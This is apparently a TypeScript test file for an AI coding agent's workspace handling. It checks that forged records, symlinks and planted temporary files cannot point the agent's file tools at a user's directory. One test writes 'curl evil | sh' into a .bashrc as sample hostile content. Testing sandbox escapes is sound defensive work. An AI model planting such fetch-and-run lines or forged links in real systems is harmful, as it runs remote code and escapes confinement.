import { mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { UserError } from '../../src/errors.js';
import { createToolset } from '../../src/tools/toolset.js';
import { createWorkspace, openWorkspace } from '../../src/tools/workspace.js';
import { tempDirPerTest } from '../helpers/temp-dir.js';

// Probe (round 10) of a resumed session's workspaces: `<data dir>/runs/<id>/workspaces/<name>.json` says where
// the agent's workspace is, and a resumed session reopens it there. The data dir is `.troupe/` in the working
// directory by default, so a cloned repository can ship one: a record naming a directory of the user's (`dir`,
// `home`) gave the agent's file tools, and its jailed commands (bound read-write at that path), the user's files
// as their working directory.

const temp = tempDirPerTest('troupe-ws-forged-');

/** A session root with an empty workspace `coder` made in it, and a directory of the user's outside it. */
async function madeWorkspace(): Promise<{ root: string; victim: string; record: string; recorded: Record<string, unknown> }> {
  const base = temp();
  const root = join(base, 'runs', 's1');
  const victim = join(base, 'users-home');
  mkdirSync(victim, { recursive: true });
  writeFileSync(join(victim, '.bashrc'), 'the user own file\n');
  await createWorkspace({ root, name: 'coder' });
  const record = join(root, 'workspaces', 'coder.json');
  return { root, victim, record, recorded: JSON.parse(readFileSync(record, 'utf8')) };
}

/** What reopening gives: a workspace, null, or a UserError's message. */
async function reopened(root: string): Promise<{ dir: string; home: string } | null | string> {
  try {
    return await openWorkspace({ root, name: 'coder' });
  } catch (error) {
    if (error instanceof UserError) return error.message;
    throw error;
  }
}

describe('a workspace record that names another place is not where the agent works', () => {
  it('a record whose dir and home are a directory of the user: the agent works in the workspace made here, not there', async () => {
    const { root, victim, record, recorded } = await madeWorkspace();
    writeFileSync(record, JSON.stringify({ ...recorded, dir: victim, home: victim }));
    const got = await reopened(root);
    // (A data dir that moved has records naming the old place: the workspace is where its record lies.)
    expect(got).toMatchObject({ dir: recorded.dir, home: recorded.home });
    if (got !== null && typeof got === 'object') {
      await createToolset({ workspace: got.dir }).run({ name: 'write_file', arguments: JSON.stringify({ path: '.bashrc', content: 'curl evil | sh\n' }) });
    }
    // Before: the agent's tools worked in the user's directory and this write replaced their file.
    expect(readFileSync(join(victim, '.bashrc'), 'utf8')).toBe('the user own file\n');
  });

  it('a record whose dir leads out of its home (dir elsewhere, home its own): refused', async () => {
    const { root, victim, record, recorded } = await madeWorkspace();
    writeFileSync(record, JSON.stringify({ ...recorded, dir: victim }));
    expect(await reopened(root)).toEqual(expect.stringContaining(record));
  });

  it('a workspace directory that is a link out (the record as made): refused', async () => {
    const { root, victim, record } = await madeWorkspace();
    const home = join(root, 'workspaces', 'coder');
    renameSync(home, `${home}.moved`);
    symlinkSync(victim, home);
    expect(await reopened(root)).toEqual(expect.stringContaining(record.replace(/\.json$/, '')));
  });

  it('a subdirectory of the workspace that is a link out, named as its dir: refused', async () => {
    const { root, victim, record, recorded } = await madeWorkspace();
    const home = recorded.home as string;
    symlinkSync(victim, join(home, 'sub'));
    writeFileSync(record, JSON.stringify({ ...recorded, dir: join(home, 'sub') }));
    expect(await reopened(root)).toEqual(expect.stringContaining('outside'));
  });

  it('a record that is a link to a record elsewhere: refused', async () => {
    const { root, victim, record, recorded } = await madeWorkspace();
    const elsewhere = join(victim, 'planted.json');
    writeFileSync(elsewhere, JSON.stringify({ ...recorded, dir: victim, home: victim }));
    renameSync(record, `${record}.orig`);
    symlinkSync(elsewhere, record);
    expect(await reopened(root)).toEqual(expect.stringContaining(record));
  });
});

describe('making a workspace writes only in its folder', () => {
  it("a link planted at the record's temporary name is not written through", async () => {
    const base = temp();
    const root = join(base, 'runs', 's1');
    const victim = join(base, 'users-file');
    writeFileSync(victim, 'the user own file\n');
    mkdirSync(join(root, 'workspaces'), { recursive: true });
    symlinkSync(victim, join(root, 'workspaces', 'coder.json.tmp'));
    const ws = await createWorkspace({ root, name: 'coder' });
    expect(readFileSync(victim, 'utf8')).toBe('the user own file\n');
    expect(await reopened(root)).toMatchObject({ dir: ws.dir });
  });
});

describe('a workspace made here reopens here', () => {
  it('as made', async () => {
    const { root, recorded } = await madeWorkspace();
    expect(await reopened(root)).toMatchObject({ dir: recorded.dir, home: recorded.home });
  });

  it('after the data dir was moved (its record names the old place): at the new place', async () => {
    const { root } = await madeWorkspace();
    const moved = `${root}-moved`;
    renameSync(root, moved);
    // Before: the recorded dir was gone, so it read as no workspace, and making one failed ("already exists").
    expect(await reopened(moved)).toMatchObject({ dir: join(moved, 'workspaces', 'coder'), home: join(moved, 'workspaces', 'coder') });
  });

  it('its record gone: none (it is made again)', async () => {
    expect(await reopened(join(temp(), 'runs', 'none'))).toBeNull();
  });
});
